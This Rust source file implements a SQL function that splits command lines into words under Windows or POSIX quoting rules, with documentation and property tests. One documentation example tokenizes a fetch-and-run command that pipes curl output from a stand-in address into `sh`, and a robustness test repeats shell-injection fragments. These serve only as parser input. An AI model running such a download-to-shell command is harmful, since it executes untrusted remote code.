//! `command_split(text [, options])`: the words of a command line.

mod posix;
mod windows;

use crate::prelude::*;

/// Whose rules of quoting apply.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub enum Platform {
    /// The C runtime's of Windows.
    #[default]
    Windows,
    /// A shell's.
    Posix,
}

/// Options of `command_split`.
#[derive(Debug, Default, Clone, Copy)]
pub struct SplitOptions {
    platform: Platform,
}

impl Options for SplitOptions {
    const FIELDS: &'static [OptionField] = &[OptionField {
        name: "platform",
        kind: OptionKind::Choice(&["windows", "posix"]),
        default: "'windows'",
        doc: "Whose rules apply: those of Windows programs, or those of a POSIX shell.",
    }];

    fn set(&mut self, _: &str, setting: Setting) -> Result<(), String> {
        self.platform = if setting == Setting::Text("posix".to_owned()) { Platform::Posix } else { Platform::Windows };
        Ok(())
    }
}

/// Kernel of `command_split`.
pub struct CommandSplit;

impl ScalarKernel for CommandSplit {
    const SPEC: Spec = Spec {
        name: "command_split",
        family: Family::Process,
        summary: "Splits a command line into its words as the started program or a shell does, quotes and escapes undone.",
        details: DETAILS,
        args: &[Arg { name: "text", doc: "A command line." }],
        examples: &[
            Example {
                sql: r#"SELECT unnest(command_split('"C:\Program Files\a b.exe" /c "say \"hi\"" D:\x\')) AS word"#,
                result: "C:\\Program Files\\a b.exe\n/c\nsay \"hi\"\nD:\\x\\",
            },
            Example {
                sql: r#"SELECT unnest(command_split('curl -s "http://192.0.2.1/a" 2>/dev/null|sh -c $''id\x20-u''', {'platform': 'posix'})) AS word"#,
                result: "curl\n-s\nhttp://192.0.2.1/a\n2>\n/dev/null\n|\nsh\n-c\nid -u",
            },
        ],
    };
    type Args<'a> = (&'a str,);
    type Options = SplitOptions;
    type Out<'a> = Vec<&'a str>;
    type Scratch = Words;

    fn eval<'a>(words: &'a mut Words, options: &'a SplitOptions, (text,): (&'a str,)) -> KernelResult<Vec<&'a str>> {
        command_split(text, options.platform, words);
        Ok(Some(words.iter().collect()))
    }
}

const DETAILS: &str = "\
**`windows`**: the words that a program's `main` gets, after the rules that the Microsoft C runtime has had since 2008. Blanks and tabs separate. A quote opens and closes a
quoted part anywhere in a word; a doubled quote within a quoted part is a quote. 2n backslashes before a quote are n backslashes and the quote counts; 2n+1 are n backslashes and
a quote as text; other backslashes are text. The first word, the program, has rules of its own: quotes are dropped, backslashes never escape, and where the text begins with a
blank the first word is empty. `CommandLineToArgvW` agrees but for a doubled quote in a quoted part, after which it leaves the quoted part. `cmd.exe` looks at a line before any
program does: its `^`, `%x%`, `&` and `|` are text here.

**`posix`**: the words a shell sees before it expands anything. `'..'`, `\"..\"`, `\\` and `$'..'` (with `\\n`, `\\x41`, `\\101`, `\\u0041`, ...) are undone, a backslash at the end of a line joins
it with the next. Operators are words of their own: `|`, `||`, `|&`, `&`, `&&`, `;`, `;;`, `(`, `)`, a line break, and redirections with the number before them (`2>`, `>>`, `2>&`, `&>`, `<<<`). `$x`, `${..}`, `$(..)` and
backticks stay as written and in one word, with what is in them. `#` begins no comment, here-documents are read as words. A word that is written like an operator but quoted (`';'`) looks the same in the result.

A quote that is not closed holds the rest of the text. Empty words are kept (`\"\"`). NULL gives NULL; a text of nothing but blanks an empty list.";

/// The words of a text, one after another in one buffer.
#[derive(Debug, Default)]
pub struct Words {
    text: String,
    ends: Vec<usize>,
}

impl Words {
    /// The words in order.
    pub fn iter(&self) -> impl Iterator<Item = &str> {
        let starts = std::iter::once(0).chain(self.ends.iter().copied());
        starts.zip(&self.ends).map(|(start, end)| self.text.get(start..*end).unwrap_or_default())
    }

    fn end_word(&mut self) {
        self.ends.push(self.text.len());
    }
}

/// Puts the words of `text` in place of what is in `words`.
pub fn command_split(text: &str, platform: Platform, words: &mut Words) {
    words.text.clear();
    words.ends.clear();
    match platform {
        Platform::Windows => windows::split(text, words),
        Platform::Posix => posix::split(text, words),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::options::{Value, parse};
    use proptest::prelude::*;

    pub(super) fn words(text: &str, platform: Platform) -> Vec<String> {
        let mut words = Words::default();
        command_split(text, platform, &mut words);
        words.iter().map(str::to_owned).collect()
    }

    #[test]
    fn options() {
        let with = |value| parse::<SplitOptions>("command_split", &Value::Struct(vec![("platform".to_owned(), value)]));
        assert_eq!(with(Value::Text("POSIX".to_owned())).unwrap().platform, Platform::Posix);
        assert_eq!(with(Value::Null).unwrap().platform, Platform::Windows);
        let message = with(Value::Text("mac".to_owned())).unwrap_err().to_string();
        assert!(message.contains("'windows' or 'posix', got 'mac'"), "{message}");
    }

    #[test]
    fn long_hostile_texts() {
        for unit in ["\"", "'", "\\", "\\\"", "$(", "`", "${", "$'", "$'\\", "\"$(", "\"`", "; ", "2>", "a\0", "<", "\" "] {
            let text = unit.repeat(1 << 18);
            for platform in [Platform::Windows, Platform::Posix] {
                let mut words = Words::default();
                command_split(&text, platform, &mut words);
                assert!(words.text.len() <= text.len(), "{unit:?}");
            }
        }
    }

    proptest! {
        /// The documented way to quote an argument for Windows comes back as it was.
        #[test]
        fn windows_quoting_is_undone(arguments in prop::collection::vec("[a\\\\\" \té]{0,8}", 0..5)) {
            let mut line = "x.exe".to_owned();
            for argument in &arguments {
                line.push_str(" \"");
                let mut slashes = 0;
                for c in argument.chars() {
                    if c == '"' {
                        line.push_str(&"\\".repeat(slashes + 1));
                    }
                    slashes = if c == '\\' { slashes + 1 } else { 0 };
                    line.push(c);
                }
                line.push_str(&"\\".repeat(slashes));
                line.push('"');
            }
            prop_assert_eq!(&words(&line, Platform::Windows)[1..], &arguments[..]);
        }

        #[test]
        fn posix_quoting_is_undone(arguments in prop::collection::vec("[a'\\\\\"$ ;|`é\n]{0,8}", 0..5)) {
            let line = arguments.iter().map(|argument| format!("'{}'", argument.replace('\'', "'\\''"))).collect::<Vec<_>>().join(" ");
            prop_assert_eq!(words(&line, Platform::Posix), arguments);
        }

        #[test]
        fn any_text(text in "\\PC*") {
            for platform in [Platform::Windows, Platform::Posix] {
                words(&text, platform);
            }
        }
    }
}
